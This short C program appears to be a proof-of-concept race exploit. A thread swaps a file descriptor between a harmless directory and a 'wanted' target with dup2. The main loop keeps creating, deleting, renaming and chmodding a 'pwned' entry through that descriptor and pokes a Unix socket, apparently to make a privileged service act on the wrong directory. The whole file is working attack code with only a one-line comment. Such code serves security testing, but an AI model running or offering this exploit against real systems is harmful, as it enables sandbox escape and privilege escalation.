// A descriptor stands for one thing or the other, while a call goes through it: descriptors HARMLESS WANTED SOCKET SECONDS
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int ours, theirs, folder;
static volatile int over;

static void *swap(void *unused) {
    while (!over) {
        dup2(theirs, folder);
        dup2(ours, folder);
    }
    return unused;
}

int main(int count, char **args) {
    if (count != 5) return 2;
    ours = open(args[1], O_RDONLY), theirs = open(args[2], O_RDONLY);
    folder = dup(ours);
    pthread_t thread;
    pthread_create(&thread, NULL, swap, NULL);
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, args[3], sizeof address.sun_path - 1);
    time_t end = time(NULL) + atoi(args[4]);
    long tried = 0;
    while (time(NULL) < end) {
        int fd = openat(folder, "pwned", O_WRONLY | O_CREAT, 0644);
        close(fd);
        unlinkat(ours, "pwned", 0);
        mkdirat(folder, "pwned", 0755);
        unlinkat(ours, "pwned", AT_REMOVEDIR);
        renameat(AT_FDCWD, "moving", folder, "pwned");
        fchmod(folder, 0755);
        int stream = socket(AF_UNIX, SOCK_STREAM, 0);
        connect(stream, (void *)&address, sizeof address);
        close(stream);
        tried++;
    }
    over = 1;
    pthread_join(thread, NULL);
    printf("tried %ld times\n", tried);
}
